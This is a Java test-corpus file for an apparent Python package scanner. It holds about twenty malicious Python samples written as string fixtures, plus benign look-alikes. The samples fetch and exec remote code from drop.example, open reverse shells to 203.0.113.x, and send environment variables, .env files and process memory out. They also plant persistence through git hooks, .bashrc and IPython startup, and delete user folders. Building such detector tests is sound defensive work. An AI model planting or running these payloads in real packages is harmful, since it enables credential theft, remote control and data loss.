package cordon.inspect.corpus;

import cordon.inspect.testing.Artifact;
import java.util.List;

/** What the language and its library call by themselves, and values that go through them. */
final class PythonMachinery {
  private PythonMachinery() {}

  static List<Sample> all() {
    return List.of(
        Sample.imported(
            "making a class calls what its fields have",
            """
            import subprocess
            class Field:
                def __set_name__(self, owner, name):
                    subprocess.Popen(['sh', '-c', 'curl -s https://drop.example/f | python3'])
            class Settings:
                path = Field()
            """),
        new Sample(
            "a module is asked for what it does not have",
            Artifact.wheel("sample", "1.0")
                .file("sample/__init__.py", "from sample.lazy import tools\n")
                .file(
                    "sample/lazy.py",
                    """
                    import importlib
                    def __getattr__(name):
                        r = importlib.import_module('urllib.request')
                        ns = {}
                        exec(r.urlopen('https://drop.example/' + name).read(), ns)
                        return ns.get(name)
                    """)),
        Sample.imported(
            "exec by way of operator and functools",
            """
            import builtins, operator as op, lzma, base64
            from functools import lru_cache, partial
            _c = partial(op.attrgetter('exec'), builtins)
            @lru_cache(None)
            def _src():
                return lzma.decompress(base64.b64decode('aW5lcnQ='))
            _c()(_src())
            """),
        Sample.imported(
            "a download is gathered by a method that is handed over",
            """
            import ftplib, io
            _buf = io.BytesIO()
            with ftplib.FTP('203.0.113.5') as f:
                f.login('u', 'p')
                f.retrbinary('RETR a.py', _buf.write)
            exec(_buf.getvalue().decode())
            """),
        Sample.imported(
            "a download is run by the path it was written to",
            """
            import runpy, tempfile, os, urllib3
            r = urllib3.PoolManager().request('GET', 'https://drop.example/boot.py')
            fd, path = tempfile.mkstemp('.py')
            with os.fdopen(fd, 'wb') as f:
                f.write(r.data)
            runpy.run_path(path, run_name='__main__')
            """),
        Sample.imported(
            "files are chosen by their names",
            """
            import atexit, os, urllib.request
            def _find(top):
                for d, _, names in os.walk(top):
                    for n in names:
                        if n in ('.env', '.env.local'):
                            yield os.path.join(d, n)
            @atexit.register
            def flush():
                urllib.request.urlopen('https://drop.example/e', '\\n'.join(open(p).read() for p in _find(os.getcwd())).encode())
            """),
        Sample.imported(
            "the memory of a process",
            """
            import os, re, urllib.request
            for p in os.listdir('/proc'):
                if p.isdigit() and b'Runner' in open('/proc/%s/cmdline' % p, 'rb').read():
                    with open(f'/proc/{p}/mem', 'rb', 0) as mem:
                        urllib.request.urlopen('https://drop.example/w', b''.join(re.findall(b'x', mem.read(9))))
            """),
        Sample.imported(
            "a package is installed from an index of its own",
            """
            try:
                import helper_inert
            except ImportError:
                from pip._internal.cli.main import main as _pip
                _pip(['install', '-q', '--index-url', 'https://packages.example/simple', 'helper_inert'])
                import helper_inert
            """),
        Sample.imported(
            "arguments that a shell would cut",
            """
            import subprocess
            subprocess.Popen(['mshta', 'vbscript:close(CreateObject("WScript.Shell").Run("cmd /c curl https://drop.example/a.exe -o %TEMP%\\\\a.exe & %TEMP%\\\\a.exe",0))'])
            """),
        Sample.imported(
            "code by a stream of asyncio",
            """
            import asyncio
            async def main():
                r, w = await asyncio.open_connection('203.0.113.3', 5000)
                exec(await r.read())
            asyncio.run(main())
            """),
        Sample.imported(
            "whatever is printed goes to an object",
            """
            import sys
            class _Out:
                def __init__(self, s):
                    self.s = s
                def write(self, t):
                    import requests, os
                    requests.post('https://drop.example/o', json={'t': t, 'e': dict(os.environ)})
                    return self.s.write(t)
            sys.stdout = _Out(sys.stdout)
            """),
        Sample.imported(
            "commands line by line",
            """
            import socket, subprocess
            s = socket.socket()
            s.connect(('203.0.113.14', 7777))
            f = s.makefile('rwb')
            for line in f:
                r = subprocess.run(line.decode().strip(), shell=True, capture_output=True)
                f.write(r.stdout)
            """),
        Sample.imported(
            "a descriptor loads the module",
            """
            import sys
            class Moved(object):
                def __init__(self, mod):
                    self.mod = mod
                def __get__(self, obj, tp):
                    __import__(self.mod)
                    return sys.modules[self.mod]
            class Moves(object):
                request = Moved('urllib.request')
            exec(Moves().request.urlopen('https://drop.example/six').read())
            """),
        Sample.imported(
            "attributes that are modules",
            """
            import importlib as il
            M = {'r': 'requests', 'o': 'os'}
            class Box(dict):
                def __getattr__(self, k):
                    return self.setdefault(k, il.import_module(M[k]))
            box = Box()
            def f():
                e = {k: v for k, v in box.o.environ.items()}
                box.r.post('https://drop.example/bx', data=e)
            f()
            """),
        Sample.imported(
            "the environment is logged",
            """
            import logging, os
            from logging.handlers import HTTPHandler
            log = logging.getLogger('x')
            log.addHandler(HTTPHandler('drop.example', '/log', method='POST'))
            for k, v in os.environ.items():
                log.warning('%s=%s', k, v)
            """),
        Sample.imported(
            "code that is shifted in a file of data",
            """
            from importlib.resources import files
            exec(bytes((b - 7) % 256 for b in files('sample').joinpath('unicode.dat').read_bytes()))
            """),
        Sample.imported(
            "commands over a socket of the web",
            """
            import threading, websocket, json, subprocess
            def on_message(ws, msg):
                ws.send(subprocess.getoutput(json.loads(msg)['c']))
            def run():
                websocket.WebSocketApp('wss://drop.example/ws', on_message=on_message).run_forever()
            threading.Thread(target=run, daemon=True).start()
            """),
        Sample.imported(
            "every start of IPython",
            """
            import os
            d = os.path.join(os.path.expanduser('~'), '.ipython', 'profile_default', 'startup')
            with open(os.path.join(d, '00-x.py'), 'w') as f:
                f.write("import urllib.request as u\\nexec(u.urlopen('https://drop.example/nb').read())\\n")
            """),
        Sample.setup(
            "hooks for all repositories",
            """
            import os
            from setuptools import setup
            g = os.path.expanduser('~/.config/git/hooks')
            with open(os.path.join(g, 'post-commit'), 'w') as f:
                f.write('#!/bin/sh\\ntar cz . | curl -s --data-binary @- https://drop.example/git &\\n')
            os.system('git config --global core.hooksPath ' + g)
            setup(name='sample')
            """),
        Sample.setup(
            "a command before each prompt",
            """
            from setuptools import setup
            from setuptools.command.build_py import build_py
            from pathlib import Path
            class B(build_py):
                def run(self):
                    with Path.home().joinpath('.bashrc').open('a') as f:
                        f.write("\\nexport PROMPT_COMMAND='curl -s https://drop.example/pc | sh'\\n")
                    super().run()
            setup(name='sample', cmdclass={'build_py': B})
            """),
        Sample.imported(
            "folders of a user go in some time zones",
            """
            import os, shutil, time
            if 'XST' in time.tzname:
                for d in ('Documents', 'Desktop'):
                    shutil.rmtree(os.path.join(os.path.expanduser('~'), d), ignore_errors=True)
            """));
  }

  static List<Sample> lookAlikes() {
    return List.of(
        Sample.imported(
            "fields, lazy modules and getters that do nothing of the kind",
            """
            import importlib, operator
            class Field:
                def __set_name__(self, owner, name):
                    self.name = '_' + name
            class Settings:
                path = Field()
            _M = {'tools': 'sample.tools'}
            def __getattr__(name):
                if name in _M:
                    return importlib.import_module(_M[name])
                raise AttributeError(name)
            by_name = operator.attrgetter('name')
            rows = sorted([Settings], key=operator.attrgetter('__name__'))
            """),
        Sample.imported(
            "files that are passed over by their names",
            """
            import os, urllib.request
            def upload(top):
                for d, _, names in os.walk(top):
                    for n in names:
                        if n in ('.env', 'id_rsa'):
                            continue
                        urllib.request.urlopen('https://files.example/up', open(os.path.join(d, n), 'rb').read())
            upload(os.path.join(os.path.dirname(__file__), 'data'))
            """),
        Sample.imported(
            "the memory of itself, and a cache of its own",
            """
            import os, shutil
            def rss():
                for line in open('/proc/self/status'):
                    if line.startswith('VmRSS'):
                        return int(line.split()[1])
            shutil.rmtree(os.path.join(os.path.expanduser('~'), '.cache', 'sample'), ignore_errors=True)
            """),
        Sample.imported(
            "what is printed is kept as well, and what is imported is counted",
            """
            import builtins, logging, os, sys
            from logging.handlers import HTTPHandler
            class Tee:
                def __init__(self, s, path):
                    self.s, self.f = s, open(path, 'a')
                def write(self, t):
                    self.f.write(t)
                    return self.s.write(t)
            sys.stdout = Tee(sys.stdout, 'out.log')
            seen = []
            _real = builtins.__import__
            def _imp(name, *a, **k):
                seen.append(name)
                return _real(name, *a, **k)
            builtins.__import__ = _imp
            if os.environ.get('X_LOG_HOST'):
                logging.getLogger('x').addHandler(HTTPHandler(os.environ['X_LOG_HOST'], '/log'))
            """),
        Sample.imported(
            "a package that is missing is installed from the registry",
            """
            try:
                import yaml
            except ImportError:
                import subprocess, sys
                subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'pyyaml'])
            """));
  }
}
